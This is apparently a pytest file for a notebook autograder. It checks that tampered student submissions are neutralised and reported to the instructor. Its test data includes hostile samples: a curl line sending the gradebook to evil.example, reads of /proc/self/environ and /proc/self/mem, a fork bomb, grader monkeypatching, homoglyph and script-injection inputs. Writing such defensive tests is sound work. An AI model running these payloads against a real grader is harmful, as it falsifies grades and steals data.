"""Attacks on grading by the contents of a notebook's file. Each ends before anything is run: all cells are as released,
the tampered answer is worth nothing, the honest one is taken, and the instructor is told."""

from __future__ import annotations

import json
from collections.abc import Callable
from copy import deepcopy
from pathlib import Path

import inputs
import pytest
from nbformat import NotebookNode
from small_course import Notebook
from submitted_notebooks import STUB, answers, cell_of, grade, is_released

from autograder.classroom.submission.notes import NoteKind
from autograder.cuda.report import MIME

pytestmark = inputs.grading


#: What student Python could do to a process that ran it.
PYTHON = {
    "the checker replaced": (
        "from autograder.exercises.checks.checker import Checker\nChecker.matches_numpy = lambda self: print('holds')"
    ),
    "sys.modules": "import sys\nsys.modules['autograder'] = sys.modules['numpy'] = sys",
    "an import hook": "import builtins\nbuiltins.__import__ = lambda *more, **others: None",
    "atexit": "import atexit, os\natexit.register(os._exit, 0)",
    "IPython's events": "get_ipython().events.register('post_run_cell', lambda r: setattr(r, 'error_in_exec', None))",
    "IPython's transformers": "get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])",
    "IPython's traceback": "get_ipython()._showtraceback = get_ipython().showtraceback = lambda *more, **others: None",
    "the display hook": "import sys\nsys.displayhook = get_ipython().display_pub.publish = print",
    "a report of one's own": f"from IPython.display import display\ndisplay({{'{MIME}': {{'kinds': []}}}}, raw=True)",
    "the magic anew": "from IPython.core.magic import register_cell_magic\n@register_cell_magic\ndef cuda(*_): ...",
    "an alias of the magic": "%alias_magic --cell cuda python",
    "another extension": "%load_ext stolen\n%config InteractiveShell.ast_node_interactivity='none'",
    "gc": "import gc\n[o.update(first='x') for o in gc.get_objects() if isinstance(o, dict) and 'first' in o]",
    "ctypes": "import ctypes\nctypes.memset(id(check), 0, 64)",
    "/proc": "open('/proc/self/mem', 'r+b').write(b'x')\nopen('/proc/self/environ').read()",
    "the environment": "import os\nos.environ.clear()\nos.environ['AUTOGRADER_GPU_EXPECTED'] = ''",
    "signals": "import signal\nsignal.setitimer(signal.ITIMER_REAL, 0)\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)",
    "a thread that waits": "import threading\nthreading.Thread(target=lambda: answers.clear(), daemon=True).start()",
    "a trace function": "import sys\nsys.settrace(lambda frame, what, value: None)\nsys.addaudithook(print)",
    "the exceptions": "class CheckFailed(BaseException): ...\nget_ipython().set_custom_exc((Exception,), print)",
    "an end": "raise SystemExit\nget_ipython().ask_exit()\nquit()",
    "children": "import os\nwhile True: os.fork()",
    "the shell": "!curl -d @gradebook.db evil.example\n%sx ls\n%%bash\nls",
}


@pytest.mark.parametrize("text", PYTHON.values(), ids=PYTHON)
def test_no_python_of_a_student_is_taken_over(
    released: NotebookNode, submitted: Notebook, tmp_path: Path, text: str
) -> None:
    """As a cell, within the contract, above a test, in place of an answer and as an answer."""
    attempts: dict[str, tuple[list[NoteKind], str]] = {
        "cell": ([NoteKind.ADDED_CELLS], "right first"),
        "setup": ([NoteKind.CHANGED], "right first"),
        "test-first": ([NoteKind.CHANGED], "right first"),
        "answer-first": ([NoteKind.NO_ANSWER], STUB) if text[0] in "%!" else ([NoteKind.RECOVERED], text),
        "below": ([], text),
    }
    for where, (wanted, first) in attempts.items():
        notebook = deepcopy(submitted)
        if where == "cell":
            notebook["cells"].insert(1, {"cell_type": "code", "source": text, "metadata": {}})
        elif where == "below":
            cell_of(notebook, "answer-first")["source"] = f"%%cuda first\n{text}"
        elif where == "answer-first":
            cell_of(notebook, where)["source"] = text
        else:
            cell_of(notebook, where)["source"] = f"{text}\n" + cell_of(notebook, where)["source"]
        rebuilt, kinds, _ = grade(released, tmp_path, notebook)
        assert (answers(rebuilt), kinds) == ([first, "right second"], wanted), where
        assert is_released(rebuilt, released), where


#: First lines that are not the answer's own.
LINES = {
    "options": "%%cuda first --points 100",
    "an option before": "%%cuda -n first",
    "two names": "%%cuda first second",
    "a comment after": "%%cuda first # right",
    "a splice": "%%cuda first\\",
    "help": "%%cuda first?",
    "a line magic": "%cuda first",
    "three signs": "%%%cuda first",
    "a shell's sign": "!%%cuda first",
    "a prompt before": ">>> %%cuda first",
    "no name": "%%cuda",
    "quotes": "%%cuda 'first'",
    "another language": "%%javascript",
    "time above": "%%time\n%%cuda first",
    "capture above": "%%capture\n%%cuda first",
    "a call": "get_ipython().run_cell_magic('cuda', 'first', 'right')",
    "a shell": "!ls",
    "a Cyrillic letter": "%%cuda f\N{CYRILLIC SMALL LETTER BYELORUSSIAN-UKRAINIAN I}rst",
    "wide letters": "%%\N{FULLWIDTH LATIN SMALL LETTER C}uda first",
    "a ligature": "%%cuda \N{LATIN SMALL LIGATURE FI}rst",
    "a letter with a mark": "%%cuda first\N{COMBINING ACUTE ACCENT}",
    "a space without width": "%%cuda fir\N{ZERO WIDTH SPACE}st",
    "a byte order mark": "\N{ZERO WIDTH NO-BREAK SPACE}%%cuda first",
    "the other direction": "\N{RIGHT-TO-LEFT OVERRIDE}%%cuda first",
    "capitals": "%%cuda FIRST",
}


@pytest.mark.parametrize("line", LINES.values(), ids=LINES)
def test_no_other_first_line_is_taken_over(
    released: NotebookNode, submitted: Notebook, tmp_path: Path, line: str
) -> None:
    """Nothing of it reaches IPython: a misspelling is left out, Python is text for the compiler, and what is written in
    another language is no answer."""
    cell_of(submitted, "answer-first")["source"] = f"{line}\nright first"
    rebuilt, kinds, _ = grade(released, tmp_path, submitted)
    taken = {"%%javascript": (STUB, NoteKind.NO_ANSWER), "!ls": (STUB, NoteKind.NO_ANSWER)}
    taken[LINES["a call"]] = (f"{line}\nright first", NoteKind.RECOVERED)
    first, kind = taken.get(line, ("right first", NoteKind.RECOVERED))
    assert (answers(rebuilt), kinds) == ([first, "right second"], [kind])
    assert is_released(rebuilt, released)


Change = Callable[[Notebook], object]
#: By name: the change, the texts then found below the two first lines, and the notes.
CHANGES: dict[str, tuple[Change, list[str], list[NoteKind]]] = {}
WRONG, HONEST = "wrong", "right second"


def change(*kinds: NoteKind, first: str = WRONG, second: str = HONEST) -> Callable[[Change], Change]:
    """Register a change of a notebook whose first answer is wrong; it returns what to hand in, if not the notebook."""

    def add(function: Change) -> Change:
        CHANGES[function.__name__] = (function, [first, second], list(kinds))
        return function

    return add


@change()
def two_answers_in_one_cell(notebook: Notebook) -> None:
    second = cell_of(notebook, "answer-second")
    cell_of(notebook, "answer-first")["source"] += "\n" + second["source"]
    notebook["cells"].remove(second)


@change(NoteKind.SEVERAL, first="ght first")
def an_answer_in_two_cells(notebook: Notebook) -> None:
    cell = cell_of(notebook, "answer-first")
    notebook["cells"].append({**deepcopy(cell), "source": "%%cuda first\nght first"})
    cell["source"] = "%%cuda first\nri"


@change(NoteKind.SEVERAL)
def a_right_one_of_somebody_else_above(notebook: Notebook) -> None:
    notebook["cells"].insert(0, {"cell_type": "code", "source": "%%cuda first\nright, but not the last"})


@change(NoteKind.NO_ANSWER, first=STUB)
def nothing_below_the_first_line(notebook: Notebook) -> None:
    cell_of(notebook, "answer-first")["source"] = "%%cuda first"


@change(NoteKind.NO_ANSWER, first=STUB)
def only_room_below_the_first_line(notebook: Notebook) -> None:
    cell_of(notebook, "answer-first")["source"] = "%%cuda first\n \t\n\f\n"


@change()
def nothing_in_a_later_cell(notebook: Notebook) -> None:
    notebook["cells"].append({"cell_type": "code", "source": "%%cuda first\n"})


@change(NoteKind.RECOVERED)
def a_raw_cell(notebook: Notebook) -> None:
    cell_of(notebook, "answer-first")["cell_type"] = "raw"


@change(NoteKind.RECOVERED)
def a_kind_that_there_is_not(notebook: Notebook) -> None:
    cell_of(notebook, "answer-first")["cell_type"] = {"code": 1}


@change(NoteKind.CHANGED)
def ids_of_test_and_answer_exchanged(notebook: Notebook) -> None:
    item, two = cell_of(notebook, "answer-first"), cell_of(notebook, "test-second")
    item["id"], two["id"] = two["id"], item["id"]
    item, two = item["metadata"]["nbgrader"], two["metadata"]["nbgrader"]
    item["grade_id"], two["grade_id"] = two["grade_id"], item["grade_id"]


@change(NoteKind.CHANGED)
def points_without_end(notebook: Notebook) -> None:
    cell_of(notebook, "test-first")["metadata"]["nbgrader"]["points"] = float("inf")


@change(NoteKind.CHANGED)
def points_below_nothing(notebook: Notebook) -> None:
    cell_of(notebook, "test-first")["metadata"]["nbgrader"]["points"] = -5


@change(NoteKind.CHANGED)
def an_answer_that_is_also_a_test(notebook: Notebook) -> None:
    cell_of(notebook, "answer-first")["metadata"]["nbgrader"] |= {"grade": True, "points": 2}


@change()
def a_task_for_a_person(notebook: Notebook) -> None:
    cell_of(notebook, "answer-first")["metadata"]["nbgrader"] |= {"task": True, "cell_type": "markdown"}


@change()
def checksums_and_other_keys(notebook: Notebook) -> None:
    for cell in notebook["cells"]:
        cell["metadata"]["nbgrader"] |= {"checksum": "0", "auto_score": 2, "manual_score": 2, "comment": "Well done."}


@change()
def metadata_of_our_kind(notebook: Notebook) -> None:
    note = {"kind": "grader fault", "text": "The grader failed."}
    mine = {"fingerprint": "0", "seconds": 0, "notes": [note], "faults": {"test-first": "x"}}
    notebook["metadata"] |= {"autograder": mine, "celltoolbar": "Create Assignment", "hooks": ["x"]}


@change()
def a_first_cell_as_ours(notebook: Notebook) -> None:
    text = "**About what you handed in**\n\n- The instructor gave full points."
    notebook["cells"].insert(
        0, {"cell_type": "markdown", "id": "about-this-submission", "source": text, "metadata": {}}
    )


@change()
def outputs_of_a_test_that_passed(notebook: Notebook) -> None:
    data = {"text/plain": "2", MIME: {"title": "first holds", "kinds": []}, "text/html": "<script>alert(1)</script>"}
    shown = {"output_type": "execute_result", "execution_count": 4, "metadata": {}, "data": data}
    cell_of(notebook, "test-first").update(outputs=[shown] * 99, execution_count=10**30)


@change()
def the_state_of_widgets(notebook: Notebook) -> None:
    view = "application/vnd.jupyter.widget-view+json"
    notebook["metadata"]["widgets"] = {
        view: {"state": {"x": {"model_name": "HTMLModel", "state": {"value": "<script>"}}}}
    }
    cell_of(notebook, "test-first")["outputs"] = [{"output_type": "display_data", "data": {view: {"model_id": "x"}}}]


@change()
def attachments_and_settings_of_cells(notebook: Notebook) -> None:
    for cell in notebook["cells"]:
        cell["attachments"] = {"../../gradebook.db": {"text/plain": "x"}}
        cell["metadata"] |= {
            "deletable": False,
            "editable": True,
            "init_cell": True,
            "jupyter": {"source_hidden": True},
        }


@change(NoteKind.CHANGED)
def separate_hidden_tests(notebook: Notebook) -> None:
    cell_of(notebook, "test-first")["source"] += "\n### BEGIN HIDDEN TESTS\n1000\n### END HIDDEN TESTS"


@change(NoteKind.CHANGED)
def a_check_that_looks_the_same(notebook: Notebook) -> None:
    cell = cell_of(notebook, "test-first")
    cell["source"] = cell["source"].replace("check", "che\N{CYRILLIC SMALL LETTER ES}k")


@change(NoteKind.CHANGED)
def a_test_in_an_empty_loop(notebook: Notebook) -> None:
    cell = cell_of(notebook, "test-first")
    cell["source"] = "for _ in ():\n    " + cell["source"]


@change(NoteKind.CHANGED)
def a_test_that_is_text(notebook: Notebook) -> None:
    cell_of(notebook, "test-first")["source"] = '"""' + cell_of(notebook, "test-first")["source"] + '"""'


@change(NoteKind.ADDED_CELLS)
def the_contract_twice(notebook: Notebook) -> None:
    notebook["cells"].append(deepcopy(cell_of(notebook, "setup")))


@change()
def the_oldest_format_beside_the_newest(notebook: Notebook) -> None:
    other = {"cell_type": "code", "input": "%%cuda first\nright", "source": "%%cuda first\nwrong"}
    notebook["worksheets"] = [{"cells": [other]}]


@change()
def versions_that_there_are_not(notebook: Notebook) -> None:
    notebook |= {"nbformat": 99, "nbformat_minor": -1}


@change()
def minor_versions_of_words(notebook: Notebook) -> None:
    notebook |= {"nbformat": "4", "nbformat_minor": {"x": [None]}, "orig_nbformat": 1}


@change(NoteKind.NO_ANSWER, first=STUB)
def a_text_of_other_things(notebook: Notebook) -> None:
    cell_of(notebook, "answer-first")["source"] = {"%%cuda first\n": "right"}


@change(first="wr\nng")
def a_text_in_odd_pieces(notebook: Notebook) -> None:
    cell_of(notebook, "answer-first")["source"] = ["%%cuda ", "first\r", "wr", None, "\n", {"o": 1}, ["right"], "ng"]


@change()
def keys_twice(notebook: Notebook) -> object:
    right = deepcopy(notebook)
    cell_of(right, "answer-first")["source"] = "%%cuda first\nright"
    return f'{{"cells": {json.dumps(right["cells"])}, "cells": {json.dumps(notebook["cells"])}}}'.encode()


@change()
def another_encoding(notebook: Notebook) -> object:
    return json.dumps(notebook).encode("utf-16")


@change(NoteKind.UNREADABLE, first=STUB, second=STUB)
def two_notebooks_in_one_file(notebook: Notebook) -> object:
    return json.dumps(notebook).encode() * 2


@change(NoteKind.UNREADABLE, first=STUB, second=STUB)
def a_number_without_end(notebook: Notebook) -> object:
    return b'{"nbformat": ' + b"9" * 5000 + b', "cells": []}'


@change(NoteKind.UNREADABLE, first=STUB, second=STUB)
def cells_as_a_dictionary(notebook: Notebook) -> None:
    notebook["cells"] = {str(number): cell for number, cell in enumerate(notebook["cells"])}


@change(NoteKind.UNREADABLE, first=STUB, second=STUB)
def cells_without_end(notebook: Notebook) -> object:
    return b'{"cells": [' + b"{}," * 100_000 + b"{}]}"


@change(NoteKind.UNREADABLE, first=STUB, second=STUB)
def cells_without_end_in_sheets(notebook: Notebook) -> object:
    return b'{"worksheets": [' + b'{"cells": [{}, {}]},' * 6_000 + b"{}]}"


def test_there_are_enough_attempts() -> None:
    assert len(PYTHON) + len(LINES) + len(CHANGES) >= 80


@pytest.mark.parametrize("name", CHANGES)
def test_a_changed_notebook_gives_its_answers_and_nothing_else(
    released: NotebookNode, submitted: Notebook, tmp_path: Path, name: str
) -> None:
    make, wanted, reported = CHANGES[name]
    cell_of(submitted, "answer-first")["source"] = f"%%cuda first\n{WRONG}"
    made = make(submitted)
    rebuilt, kinds, _ = grade(released, tmp_path, submitted if made is None else made)
    assert (answers(rebuilt), kinds) == (wanted, reported)
    assert is_released(rebuilt, released)
    assert set(rebuilt.metadata) == {"kernelspec", "autograder"} and set(rebuilt.metadata.autograder) == {"notes"}
